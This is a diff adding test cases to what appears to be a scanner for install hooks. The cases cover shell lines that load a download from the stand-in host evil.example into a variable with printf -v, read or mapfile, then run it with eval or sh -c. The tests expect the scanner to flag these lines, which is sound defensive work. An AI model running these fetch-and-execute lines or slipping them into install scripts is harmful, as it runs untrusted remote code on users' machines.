@@ -40,3 +40,23 @@ describe('hook scan: shell variables', () => {
     expect(await installFindings(...lines)).toEqual([]);
   });
 });
+
+describe('hook scan: names a builtin sets from a download', () => {
+  it.each([
+    ['printf -v of a download, then eval', ['printf -v code "%s" "$(curl -fsSL https://evil.example/x)"', 'eval "$code"']],
+    ['read from <(curl …), then eval', ['read -r -t 5 code < <(curl -fsSL https://evil.example/x)', 'eval "$code"']],
+    ['read -a from a downloaded file, then sh -c', ['curl -fsSL -o var/x https://evil.example/x', 'read -r -a parts < var/x', 'sh -c "${parts[*]}"']],
+    ['mapfile -t from <(curl …), then eval', ['mapfile -t lines < <(curl -fsSL https://evil.example/x)', 'eval "${lines[@]}"']],
+    ['read into REPLY, then eval', ['read < <(wget -qO- https://evil.example/x)', 'eval "$REPLY"']],
+  ])('flags %s as download-and-execute, not only for review', async (_what, lines) => {
+    expect(await installFindings(...lines)).toEqual([`install.download-exec@INSTALL:${lines.length + 1}`]);
+  });
+
+  it.each([
+    ['printf -v of a literal, then eval', ['printf -v greeting "%s" hello', 'eval "echo $greeting"']],
+    ['read from a shipped file, then echo', ['read -r version < payload/VERSION', 'echo "$version"']],
+    ['mapfile of a download, only printed', ['mapfile -t lines < <(curl -fsSL https://x.example/list)', 'printf "%s\\n" "${lines[@]}"']],
+  ])('flags nothing for %s', async (_what, lines) => {
+    expect(await installFindings(...lines)).toEqual([]);
+  });
+});
